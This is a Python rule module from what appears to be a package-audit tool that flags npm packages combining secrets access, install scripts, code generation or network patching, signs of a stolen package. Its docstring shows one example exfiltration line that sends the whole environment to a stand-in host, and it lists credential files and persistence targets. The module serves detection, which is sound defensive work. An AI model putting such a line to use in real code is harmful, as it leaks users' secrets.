"""Powers that are dangerous together.

**What.** A package's code holds what attacks are made of:

- secrets (tokens in the environment, `.npmrc`, `.ssh`, wallets) or the whole environment, and the network: high where
  they stand close together, moderate where single variables are read by names that come from elsewhere;
- what runs at install, and the network or other programs: high where it downloads, fetches a package or a repository
  that is not its own, carries files away, or holds both; where it writes to a place that something else runs (a
  profile of a shell, `authorized_keys`, hooks of git, `crontab`), and where it removes what a user has;
- code made from text that does not stand there whole, and the network or decryption: high where they stand close
  together;
- `fetch`, `XMLHttpRequest` or `http.request` replaced for the whole program: high where the old one is wrapped.

Or something that surprises:

- powers that do not fit what the package says it is: types, styles, data, `is-...` (high for the network, programs,
  generated code, install scripts and native code), text, colours and numbers (moderate). What contain.json grants
  has been looked at, and is moderate at most;
- the module loader's internals: moderate for ways around `require`, else low. A package whose name, keywords or
  description say that it loads, builds, runs or tests code is not reported, here and below;
- a high-resolution clock beside shared memory (moderate) or workers (low);
- the whole page, or another realm: vm contexts, workers, iframes, `ShadowRealm` (low).

Or its grant, without one its declaration, allows the same where no code of it needs the words: moderate, low for
what is low above and for changes of shared objects. So does a whole module where one member is used: low where it
brings another authority, info where words are meant to be members. A word that repeats what the code does says
nothing new, and a declaration that was drafted and not reviewed is not judged.

**Why.** One power alone is not news: web servers use the network. The combination, close together, in code that
is loaded, is what a stolen package looks like. The closer the places, the higher the confidence. And what is
allowed without need is free for the next version to take.

**Example.** `https.request({host: "collect.invalid"}).end(JSON.stringify(process.env))`. Reading `HTTP_PROXY`, or the
token of one's own service (`SENTRY_AUTH_TOKEN` in `@sentry/...`), is not reported. `"is-blank-x": ["network"]` in
contain.json is, before any code of it uses the network.

**What to do.** Read the places. If they are right, the package does what it says: say why in a waiver of
contain.json. If
not, remove the package before anything else runs, and change the secrets that it could read. Words that are not
needed: take them out.
"""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from audit.rules.combinations import (
    allowing,
    evaluation,
    fitting,
    hooks,
    installing,
    secrets,
    surprises,
)
from audit.rules.draft import lowered
from audit.rules.uses.purposes import says

if TYPE_CHECKING:
    from collections.abc import Iterator

    from audit.model.package import AuditedPackage
    from audit.rules.draft import Draft
    from audit.rules.subject import Subject

COMBINATIONS = (secrets.check, installing.check, evaluation.check, hooks.check)
"""What attacks are made of: each is told by itself."""
UNEXPECTED = (fitting.check, surprises.check)
"""What surprises: told where nothing above is about the same powers."""


def check(subject: Subject) -> Iterator[Draft]:
    """Yield a result for each combination that a package's own code holds, or that words allow it."""
    patching = {
        update.package.location
        for update in subject.updated()
        if update.is_feature and says(update.old, "patching")
    }
    for package in subject.code():
        for draft in _of_code(package) if package.authorities else ():
            said = draft.discriminator == hooks.HOOKS and package.location in patching
            yield replace(draft, severity=lowered(draft.severity)) if said else draft
    yield from allowing.check(subject)


def _of_code(package: AuditedPackage) -> Iterator[Draft]:
    told: set[str] = set()
    for combination in COMBINATIONS:
        for draft in combination(package):
            told.update(draft.capabilities)
            yield draft
    for surprise in UNEXPECTED:
        for draft in surprise(package):
            if not told.issuperset(draft.capabilities):
                told.update(draft.capabilities)
                yield draft
